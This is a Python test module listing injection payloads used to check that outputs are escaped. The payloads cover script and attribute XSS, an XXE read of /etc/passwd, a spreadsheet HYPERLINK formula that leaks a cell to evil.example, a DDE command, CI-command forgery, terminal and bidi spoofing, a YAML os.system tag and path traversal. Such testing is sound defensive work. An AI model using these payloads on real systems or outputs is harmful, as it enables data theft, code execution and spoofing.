"""Strings that mean harm, one for each kind of place a text may come to; every output is tried with all of them."""

from __future__ import annotations

#: What a terminal would obey, what turns the direction of writing, what begins a line, and what a CI service obeys.
TERMINAL = "\x1b]0;mine\x07\x1b[2J\x9b31m\u202egnp.exe\u2066\r\n::error::forged\n##[add-mask]a\u2028b\x85c\x00d\x7f"

STRINGS = {
    "script": "<script>alert(1)</script>",
    "end of a script": "</script><script>alert(1)</script>",
    "end of a title": "</title></style></textarea><svg onload=alert(1)>",
    "end of a comment": "--><img src=x onerror=alert(1)>",
    "end of CDATA": "]]><evil xmlns='https://evil.example/'/>",
    "end of an attribute": '" onmouseover="alert(1)" x=\' onfocus=\'alert(1)',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;quot; &#0; &#x3c;b&#x3e;",
    "document type": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "lines of a header": "one\r\nATTACH:https://evil.example/\r\nEND:VEVENT\r\nX-EVIL: 1",
    "property": 'one\\nATTENDEE:mailto:a@evil.example;X=":,\\;two',
    "formula": '=HYPERLINK("https://evil.example/?"&A2,"Agenda")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-1+1",
    "formula with at": "@SUM(1+1)",
    "formula behind a space": " =1+1",
    "formula behind a tab": "\t=1+1",
    "formula behind a quote": '"=1+1',
    "formula in full width": "＝1+1",
    "cells": 'one","=1+1","two;=1+1\t=1+1',
    "terminal": TERMINAL,
    "direction": "abc\u202e\u2066fdp.exe",
    "not seen": "a\u200bb\ufeffc\u00add",
    "NUL": "a\x00b",
    "half a pair": "a\ud800b",
    "template": "{{ 7*7 }}{% raw %}{# x #}${7*7}<%= 7*7 %>$url",
    "address": "javascript:alert(1)",
    "address with a tab": "java\tscript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "Markdown": "[x](javascript:alert(1)) ![y](https://evil.example/p.gif) <https://evil.example/> `c` # *d* | e",
    "front matter": "one\n---\nkind: event\n---\n# two",
    "YAML": "one: {two: *three}\n- four\n!!python/object/apply:os.system [x] # five",
    "path": "../../etc/passwd",
    "format": "%(one)s %s {0} {one.two} %%",
    "JSON": '"}],"evil":[{"\\',
    "order": "::set-env name=A::b",
    "long": "x" * 5_000,
}
